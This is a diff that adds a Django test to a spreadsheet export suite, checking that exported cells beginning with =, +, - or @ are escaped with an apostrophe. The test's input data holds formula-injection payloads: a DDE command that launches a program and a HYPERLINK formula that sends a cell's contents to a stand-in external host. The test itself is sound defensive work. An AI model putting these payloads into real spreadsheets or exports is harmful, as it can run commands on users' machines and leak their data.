@@ -81,3 +81,19 @@ def test_three_thousand_rows_ask_what_three_ask(client, region, django_assert_ma
             granted(region)
         with django_assert_max_num_queries(8):
             rows_of(client)
+
+
+def test_no_text_of_the_file_is_run_as_a_formula(client, region):
+    decision = granted(region)
+    decision.act = "@SUM(1)"
+    decision.save()
+    application = decision.application
+    application.summary = "+cmd|' /C calc'!A0" + "x" * 300
+    application.save()
+    application.organisation.name = '=HYPERLINK("https://exemple.fr/?"&A1)'
+    application.organisation.save()
+    (cells,) = rows_of(client)
+    assert problems(cells) == ()
+    assert all(not cell.startswith(tuple("=+-@")) for cell in cells.values())
+    assert cells["nomBeneficiaire"] == '\'=HYPERLINK("https://exemple.fr/?"&A1)'
+    assert cells["referenceDecision"] == "'@SUM(1)"
